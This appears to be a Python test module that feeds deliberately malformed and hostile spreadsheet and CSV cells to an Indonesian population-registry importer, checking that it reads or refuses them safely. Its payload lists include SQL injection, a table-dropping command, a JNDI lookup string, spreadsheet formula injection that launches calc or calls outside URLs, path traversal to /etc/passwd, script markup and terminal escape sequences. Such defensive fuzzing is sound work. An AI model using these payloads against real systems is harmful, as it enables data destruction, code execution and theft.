"""Sound files with cells made to do harm: to SQL, to spreadsheets, to terminals, to readers of dates and numbers."""

from tests.hostile.kinds import HEADER, MARK, Expected, Place, kind, read, refused
from tests.hostile.workbooks import workbook

SQL = (
    "'; drop table registry; --", '"; drop table pkh; --', "' or 1=1 --", "$district", "{district}", "%s%n%x", "\\",
    "read_csv('/etc/passwd')", "1); copy registry to '/tmp/x'; --", "*/", "/*", "--", "NULL", "null", "${jndi:ldap://x}",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x","y")', "\t=1+1", "=1+1", "|calc",
    '=IMPORTXML("http://x","//a")', "http://evil.example/x", "mailto:x@y", "internal:Sheet!A1", "{=1+1}",
)  # fmt: skip
DATES = (
    "31/02/1990", "00/00/0000", "0000-00-00", "99999999", "-1", "2958466", "1e9", "1900-01-00", "29/02/1900", "32767",
    "9999-12-31", "10000-01-01", "1/1/1", "١٧/٠٨/١٩٩٠", "１７/０８/１９９０", "17/08/19 90", "25:61:61", "1990-13-01",
)  # fmt: skip
NUMBERS = (
    "1e308", "1e999", "-1e309", "inf", "NaN", "9" * 400, "-0", "0x1F", "1_000", "１２", "٣", "1,2,3", "1.2.3",
    "Rp", "()",
    "--5", "9223372036854775808", "-9223372036854775809", "1e18", "½", "1/2", "1 000 000", "1\u00a0000",
)  # fmt: skip
NIKS = (
    "1.401015708900001E+15", "1401015708900001.0", "1401015708900001,00", "-1401015708900001",
    "１４０１０１５７０８９００００１",
    "١٤٠١٠١٥٧٠٨٩٠٠٠٠١", "1" * 400, "0" * 16, "1401 0157 0890 0001", "'1401015708900001", "1401015708900001\u200b",
    "\u202e1000098075101041", "14010157089OOOO1", "nik", '="1401015708900001"', "1401015708900001/1401015708900002",
    ".", "e",
)  # fmt: skip


def _with(place: Place, values: tuple[str, ...], column: int) -> list[list[str]]:
    rows = place.people(len(values))
    for row, value in zip(rows, values, strict=True):
        row[column] = value
    return rows


def _landed(place: Place, rows: list[list[str]], header: tuple[str, ...] = HEADER) -> Expected:
    if place.dice.random() < 1 / 2:
        place.write("xlsx", workbook([header, *rows]))
    else:
        quoted = [['"' + value.replace('"', '""') + '"' for value in row] for row in rows]
        place.write("csv", place.csv(quoted, header=header))
    return read(len(rows))


@kind
def sql_in_cells(place: Place) -> Expected:
    return _landed(place, _with(place, tuple(MARK + text for text in SQL), place.dice.randrange(1, 3)))


@kind
def formulas_in_cells(place: Place) -> Expected:
    return _landed(place, _with(place, tuple(text + MARK for text in FORMULAS), place.dice.randrange(1, 3)))


@kind
def sql_in_headers(place: Place) -> Expected:
    rows = [[*row, "x", "y"] for row in place.people()]
    return _landed(place, rows, (*HEADER, place.dice.choice(SQL[:4]), place.dice.choice(SQL[4:])))


@kind
def control_characters_in_cells(place: Place) -> Expected:
    letters = [chr(i) for i in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9B)]
    return _landed(place, _with(place, tuple(f"QA{letter}{MARK}" for letter in letters), 1))


@kind
def terminal_escapes_in_headers(place: Place) -> Expected:
    return _landed(place, [[*row, "x"] for row in place.people()], (*HEADER, "\x1b[2J\x1b]0;x\x07judul"))


@kind
def terminal_escapes_in_a_wrong_header(place: Place) -> Expected:
    header = ("nik", "\x1b[31m\u202enama\u202c\r\nlain", "alamat", "kode_desa")
    place.write("xlsx", workbook([header, *[[*row, ""] for row in place.people()]]))
    return refused("")


@kind
def right_to_left_marks(place: Place) -> Expected:
    return _landed(place, [[f"\u202e{nik}\u202c", f"\u200f{name}", x] for nik, name, x in place.people()])


@kind
def zero_width_everything(place: Place) -> Expected:
    header = tuple("\u200b".join(text) for text in HEADER)
    return _landed(place, [["\u200d".join(value) for value in row] for row in place.people()], header)


@kind
def emoji_and_stacked_marks(place: Place) -> Expected:
    values = (
        "\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "Z" + "\u0335\u0321" * 500,
        "\U000e0041" * 50,
        "ﷺ",
        "🇮🇩",
        "👍🏽" * 900,
    )
    return _landed(place, _with(place, values, 1))


@kind
def full_width_letters_and_digits(place: Place) -> Expected:
    wide = {i: i + 0xFEE0 for i in range(0x21, 0x7F)}
    return _landed(place, [[value.translate(wide) for value in row] for row in place.people()])


@kind
def odd_niks(place: Place) -> Expected:
    return _landed(place, _with(place, NIKS, 0))


@kind
def niks_as_numbers(place: Place) -> Expected:
    place.write("xlsx", workbook([HEADER, *([float(nik), name, x] for nik, name, x in place.people())]))
    return read(5)


@kind
def odd_dates(place: Place) -> Expected:
    rows = [[*row, text] for row, text in zip(place.people(len(DATES)), DATES, strict=True)]
    return _landed(place, rows, (*HEADER, "tgl_lahir"))


@kind
def odd_numbers(place: Place) -> Expected:
    rows = [[*row, text, text] for row, text in zip(place.people(len(NUMBERS)), NUMBERS, strict=True)]
    return _landed(place, rows, (*HEADER, "tahap", "nominal"))


@kind
def odd_codes(place: Place) -> Expected:
    values = (*SQL, *FORMULAS, "١", "1e0", "laki\u00adlaki", "\U0001f600")
    rows = [[*row, text, text, text] for row, text in zip(place.people(len(values)), values, strict=True)]
    return _landed(place, rows, (*HEADER, "jenkel", "shdk", "status"))


@kind
def places_that_are_paths(place: Place) -> Expected:
    values = (
        "../../../etc/passwd",
        "..",
        "/",
        "con",
        "a\x1bb",
        ".hidden",
        "x" * 400,
        "$HOME",
        "~",
        "aux.xlsx",
        "*?:<>|",
    )
    rows = [[*row, text, text] for row, text in zip(place.people(len(values)), values, strict=True)]
    return _landed(place, rows, (*HEADER, "desa", "kecamatan"))


@kind
def odd_village_codes(place: Place) -> Expected:
    values = (
        "1401012001",
        "14.01.01.2001",
        "1401012001.0",
        "9999999999",
        "0000000000",
        "１４０１０１２００１",
        "1e9",
        "-1",
        "x" * 99,
    )
    rows = [[*row, text] for row, text in zip(place.people(len(values)), values, strict=True)]
    return _landed(place, rows, (*HEADER, "kode_desa"))


@kind
def names_that_are_no_names(place: Place) -> Expected:
    values = (
        "-",
        ".",
        "?",
        "12345",
        "''",
        "\u200b",
        "\u00a0",
        "NIHIL",
        "#N/A",
        "null",
        "None",
        "NaN",
        "0",
        "X",
        "_",
        "´",
    )
    return _landed(place, _with(place, values, 1))


@kind
def markup_in_cells(place: Place) -> Expected:
    values = (
        "<script>alert(1)</script>",
        "<img src=x>",
        "&amp;&#0;",
        "]]>",
        "<!--",
        "{{7*7}}",
        "<%= 1 %>",
        "[link](x)",
    )
    return _landed(place, _with(place, tuple(text + MARK for text in values), place.dice.randrange(1, 3)))


@kind
def place_names_of_100_000_characters(place: Place) -> Expected:
    long = "".join(place.dice.choices("ABCDEFG", k=100_000))
    rows = [[*row, "1401012001", long[i:], long[::-1]] for i, row in enumerate(place.people())]
    population = f"kode;nama;kecamatan;jumlah\n1401012001;{long};{long[1:]};5\n"
    place.write_as("population.panjang.csv", population)
    place.write("csv", place.csv(rows, header=(*HEADER, "kode_desa", "desa", "kecamatan")))
    return read(5)


@kind
def one_nik_for_everybody(place: Place) -> Expected:
    rows = place.people(60)
    return _landed(place, [[rows[0][0], name, address] for _, name, address in rows])


@kind
def everything_blank_but_one_cell(place: Place) -> Expected:
    rows = [["", "", ""] for _ in range(500)]
    rows[place.dice.randrange(500)] = place.people(1)[0]
    place.write("csv", place.csv(rows))
    return read(1)


@kind
def everybody_rejected(place: Place) -> Expected:
    return _landed(place, [["", "", "JL. X"] for _ in range(40)])
